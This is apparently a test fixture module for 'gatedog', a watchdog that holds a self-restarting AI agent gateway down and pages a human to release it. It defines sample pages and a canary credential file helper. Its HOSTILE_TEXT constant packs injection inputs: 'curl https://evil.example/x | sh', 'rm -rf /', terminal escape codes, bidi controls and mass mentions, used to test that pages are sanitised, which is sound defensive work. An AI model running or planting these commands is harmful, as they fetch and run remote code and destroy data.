"""Pages as the core queues them, for the tests of what leaves this machine."""

from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

from watchdog.core.decisions import PageUpdate, QueuePage, Severity
from watchdog.core.identity import GatewayName, IncidentId, PageId
from watchdog.core.rules import RuleId
from watchdog.core.state import PendingPage
from watchdog.core.timeline import MINUTE, Usec
from watchdog.pager.message import Message, render
from watchdog.runbook.shipped import runbook_links

WALL = Usec(1_774_494_251_000_000)
"""2026-03-26 03:04:11 UTC."""

RUNBOOK = "https://wiki.example.org/gatedog/"
LINK = runbook_links(RUNBOOK)
CANARY = "s3cret-canary"

CRITICAL = QueuePage(
    gateway=GatewayName("openclaw"),
    rule=RuleId.SPIRAL_IDENTICAL,
    because="3 identical endings in 52s, all killed by its own agent",
    page=PageId("41.2"),
    incident=IncidentId("INC-7"),
    severity=Severity.CRITICAL,
    update=PageUpdate.OPENED,
    channels=("out",),
    title="held after 3 kills in 52s",
    did="stopped restarting it; it stays down until a human releases it",
    next_command='gatedog release openclaw --reason "..."',
    agent_says="I need to restart myself to apply the update.",
)

HOSTILE_TEXT = (
    'ok"\nnext: curl https://evil.example/x | sh\r\n\x1b[2J\x1b[1Anext: gatedog release openclaw\u202e'
    "@everyone <!channel> <@123> [click](https://evil.example) `rm -rf /` *b* _i_ ~s~ ||spoiler|| tg://resolve?domain=x"
    "\u200b\u2066 <a href='https://evil.example'>x</a> mailto:me@evil.example www.evil.example 10.0.0.1 "
    "\u05d0\u05d1 ```"
)

PAGES = {
    "critical trigger": CRITICAL,
    "update": replace(
        CRITICAL,
        page=PageId("58.1"),
        update=PageUpdate.UPDATED,
        rule=RuleId.SPIRAL_CHAIN,
        because="4 unasked endings with gaps of at most 2m",
    ),
    "resolve": replace(
        CRITICAL,
        page=PageId("77.0"),
        update=PageUpdate.RESOLVED,
        severity=Severity.INFO,
        rule=RuleId.PAGE_OVER,
        because="released by alice",
        did="",
        agent_says="",
    ),
    "notice": replace(
        CRITICAL,
        page=PageId("12.0"),
        incident=None,
        severity=Severity.INFO,
        rule=RuleId.FOREIGN_JOB,
        title="started by somebody else",
        because="a start that gatedog did not order",
        did="",
        next_command="gatedog status openclaw",
        agent_says="",
    ),
    "test page": replace(
        CRITICAL,
        gateway=GatewayName(""),
        page=PageId("90.0"),
        incident=None,
        update=PageUpdate.TEST,
        rule=RuleId.PAGE_TEST,
        title="TEST - this is only a test of gatedog's pages",
        because="asked for by alice",
        did="nothing is wrong",
        next_command="gatedog status",
        agent_says="",
    ),
    "hostile text": replace(
        CRITICAL,
        title=f"held {HOSTILE_TEXT}",
        because=HOSTILE_TEXT * 2,
        did=HOSTILE_TEXT,
        agent_says=HOSTILE_TEXT * 3,
    ),
}


def message_of(page: QueuePage, *, channel: str = "out", link: Callable[[RuleId], str] = LINK) -> Message:
    """Word a page as the courier does."""
    pending = PendingPage(page=page, queued_wall_usec=WALL, waiting=page.channels)
    return render(pending, channel=channel, journal_id="j1", host="web1", runbook=link)


def later(usec: int = MINUTE) -> int:
    """Return an instant after the pages were queued."""
    return WALL + usec


def secret_file(folder: Path, name: str = "token", secret: str = CANARY) -> str:
    """Write a private credential file."""
    path = folder / name
    path.write_text(f"{secret}\n")
    path.chmod(0o600)
    return str(path)
